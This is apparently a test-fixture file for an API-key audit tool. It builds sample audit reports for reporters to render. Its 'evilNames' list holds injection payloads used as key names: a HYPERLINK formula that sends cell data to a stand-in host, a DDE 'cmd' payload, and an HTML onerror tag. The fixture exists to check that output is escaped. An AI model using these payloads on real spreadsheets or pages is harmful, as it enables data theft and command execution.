/** Audits that every reporter must get right. */
import type { AuditedKey, AuditReport } from '../../../src/core/audit/audit-report.ts';
import { checkFacts } from '../../../src/lifecycle/audit/audit-account.ts';
import { hostile } from '../support/cases.ts';

export function makeAuditedKey(parts: Partial<AuditedKey> = {}): AuditedKey {
  return {
    keyId: 'key_1',
    name: 'mailer-production',
    prefix: 'rm_0a1b2',
    isEnabled: true,
    createdAt: '2025-10-01T00:00:00.000Z',
    ageDays: 151,
    scope: { kind: 'unknown' },
    tier: 'unknown',
    isOperator: false,
    ...parts,
  };
}

type Account = AuditReport['accounts'][number];

export function makeAudit(
  account: Partial<Account> = {},
  parts: Partial<AuditReport> = {},
): AuditReport {
  return {
    schema: 1,
    tool: { name: 'keywarden', version: '1.2.3' },
    checkedAt: '2026-03-01T12:00:00.000Z',
    settings: { maxAgeDays: 90, maxIdleDays: 90, namePattern: '^[a-z]+$' },
    hasInventory: true,
    checks: checkFacts,
    accounts: [
      {
        issuer: 'robotomail',
        issuerName: 'Robotomail',
        keys: [makeAuditedKey()],
        results: [{ check: 'key-too-old', keyId: 'key_1', message: '"mailer-production" is old' }],
        skipped: [{ check: 'key-idle', why: 'Robotomail does not tell when a key was last used' }],
        untold: ['Robotomail does not tell when a key was last used.'],
        ...account,
      },
    ],
    ...parts,
  };
}

/** What a spreadsheet, a page or a terminal would act on. */
export const evilNames = [
  '=HYPERLINK("http://x.example/"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\uff1d1',
  '"quoted", with, commas',
  '| a | b | <img src=x onerror=1> [a](http://x.example) @everyone',
  hostile,
] as const;

export const cases: Readonly<Record<string, () => AuditReport>> = {
  'one failed check': () => makeAudit(),
  'nothing wrong': () => makeAudit({ results: [], skipped: [], untold: [] }),
  'no keys': () => makeAudit({ keys: [], results: [] }),
  'no inventory': () => makeAudit({}, { hasInventory: false }),
  'an account that was not listed': () =>
    makeAudit({ failure: 'GET /api-keys: HTTP 503', keys: [], results: [], skipped: [] }),
  'two accounts': () =>
    makeAudit(
      {},
      {
        accounts: [
          ...makeAudit().accounts,
          ...makeAudit({
            issuer: 'agentmail',
            issuerName: 'AgentMail',
            keys: [
              makeAuditedKey({
                keyId: 'a',
                name: null,
                prefix: null,
                usedAt: null,
                isEnabled: false,
              }),
              makeAuditedKey({
                keyId: 'b',
                usedAt: '2026-02-01T00:00:00.000Z',
                isOperator: true,
                tier: 'full admin',
                scope: { kind: 'pod', ids: ['p'], permissions: ['api_key_create', 'inbox_read'] },
                owner: { owner: 'team', service: 'mailer', environment: 'production' },
              }),
            ],
            results: [{ check: 'full-access-many', message: '3 keys open the whole account' }],
          }).accounts,
        ],
      },
    ),
  'hostile names': () =>
    makeAudit({
      keys: evilNames.map((name, index) =>
        makeAuditedKey({ keyId: `k${index}`, name, prefix: name, owner: { owner: name } }),
      ),
      results: evilNames.map((name, index) => ({
        check: 'name-convention',
        keyId: `k${index}`,
        message: `${name} is not of the agreed form`,
      })),
    }),
};
